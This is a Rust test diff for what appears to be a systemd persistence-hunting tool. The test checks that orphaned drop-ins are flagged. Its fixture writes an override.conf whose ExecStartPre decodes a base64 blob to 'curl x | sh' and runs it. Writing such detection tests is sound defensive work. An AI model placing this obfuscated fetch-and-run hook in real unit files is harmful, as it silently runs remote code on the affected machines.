@@ -371,3 +371,53 @@ fn user_units_are_hunted_without_etc_passwd_and_the_source_is_said() {
     );
     let _ = std::fs::remove_dir_all(&root);
 }
+
+/// Issue 19, item 5: drop-ins for a unit that is not there (`ssh.service.d/override.conf` running
+/// `base64 -d | sh`, no `ssh.service`) are a finding, judged on their content; type-wide,
+/// dash-prefix and template drop-in directories are not units of their own.
+#[test]
+fn drop_ins_for_an_absent_unit_are_judged_on_their_content() {
+    let root = std::env::temp_dir().join(format!("unithunt-hunt-orphan-{}", std::process::id()));
+    let etc = root.join("etc/systemd/system");
+    for d in [
+        "ssh.service.d",
+        "service.d",
+        "foo-.service.d",
+        "bar@.service.d",
+    ] {
+        std::fs::create_dir_all(etc.join(d)).unwrap();
+        std::fs::write(etc.join(d).join("x.conf"), "[Service]\nEnvironment=A=1\n").unwrap();
+    }
+    std::fs::write(
+        etc.join("ssh.service.d/override.conf"),
+        "[Service]\nExecStartPre=/bin/sh -c \"echo Y3VybCB4IHwgc2g= | base64 -d | sh\"\n",
+    )
+    .unwrap();
+    let r = root.to_str().unwrap();
+    let o = unithunt(&[
+        "hunt",
+        "--root",
+        r,
+        "-o",
+        "ndjson",
+        "--min-severity",
+        "info",
+    ]);
+    assert_eq!(o.status.code(), Some(0));
+    let findings = ndjson(&o);
+    assert_eq!(findings.len(), 1, "{findings:?}");
+    let f = &findings[0];
+    assert_eq!(f["unit"], "ssh.service");
+    assert_eq!(f["fragment"], "(no unit file: drop-ins only)");
+    assert!(
+        matches!(f["severity"].as_str(), Some("high" | "critical")),
+        "{f}"
+    );
+    let reasons = f["reasons"].to_string();
+    assert!(
+        reasons.contains("which no unit directory holds"),
+        "{reasons}"
+    );
+    assert!(reasons.contains("encoded blob"), "{reasons}");
+    let _ = std::fs::remove_dir_all(&root);
+}
